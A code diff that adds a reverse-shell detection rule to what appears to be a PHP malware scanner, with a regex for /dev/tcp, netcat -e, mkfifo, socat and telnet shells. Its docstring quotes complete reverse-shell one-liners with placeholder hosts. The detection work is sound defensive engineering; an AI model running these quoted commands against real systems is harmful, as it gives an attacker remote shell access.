@@ -87,6 +87,48 @@ def _reverse_shell(ctx: Ctx, rule: Rule) -> Hit | None:
     return Hit(ctx.line_of_code(sock.start()), ctx.excerpt_code(sock.start(), sock.end() + 60))
 
 
+# a command that ties a shell to a network connection with a system tool: bash's /dev/tcp,
+# netcat given a program to run (-e/-c), a named pipe fed to a shell and to netcat, socat
+# running a program, telnet piped into a shell
+_NET_SHELL = re.compile(
+    rb"/dev/(?:tcp|udp)/|\bn(?:c|cat|etcat)(?:\.\w+)?\b[^\n;|&]{0,80}?\s-[a-z]*[ec]\s*[/\w]|"
+    rb"\bmkfifo\b[^\n]{0,160}?\|\s*(?:/bin/)?n(?:c|cat|etcat)\b|"
+    rb"\bsocat\b[^\n]{0,160}?\bexec:|"
+    rb"\btelnet\b[^\n]{0,80}?\|\s*(?:/bin/)?(?:ba)?sh\b"
+)
+# writes to a process the script started (proc_open's or popen's stdin)
+_PROC_WRITES = (b"fwrite", b"fputs")
+
+
+@feature("network_shell_command")
+def _network_shell_command(ctx: Ctx, rule: Rule) -> Hit | None:
+    """A command that connects a shell to a host with a system tool (a reverse shell without
+    a PHP socket): "bash -i >& /dev/tcp/host/port 0>&1", "nc host port -e /bin/sh", "rm
+    /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc host port >/tmp/f", given to a command
+    call (its literal or a variable set to one), written to the stdin of a process the script
+    started, or run as a backtick command. A literal only listed (a pattern a scanner looks
+    for) runs nothing."""
+    value = ctx.lx.value
+    kinds = ctx.lx.kinds
+    if "bq" in kinds:
+        for idx, raw in enumerate(ctx.lx.raw_strings[:5000]):
+            if kinds[idx] == "bq" and _NET_SHELL.search(raw.lower()) is not None:
+                start = ctx.code.find(b"\x01%d\x01" % idx)
+                return Hit(ctx.line_of_code(max(start, 0)), excerpt(raw))
+    sites = list(calls_to(ctx, EXEC_NAMES_B, 40))
+    if calls_to(ctx, (b"proc_open", b"popen"), 1):
+        sites += calls_to(ctx, _PROC_WRITES, 40)
+    for start, args in sites:
+        text = [args[:600]]
+        for var in sorted(set(VAR.findall(args[:600])))[:8]:  # a variable set to the command
+            text.extend(am.group(0) for _, am in var_assigns(ctx.code, var, _TAIL_ANY, 6))
+        for p in itertools.islice(PLACEHOLDER.finditer(b" ".join(text)), 60):
+            lit = value(int(p.group(1)))
+            if len(lit) < 2000 and _NET_SHELL.search(lit.lower()) is not None:
+                return Hit(ctx.line_of_code(start), excerpt(lit))
+    return None
+
+
 _UPLOAD = re.compile(rb"(move_uploaded_file|copy)\s*\(([^;]{0,300})")
 
 
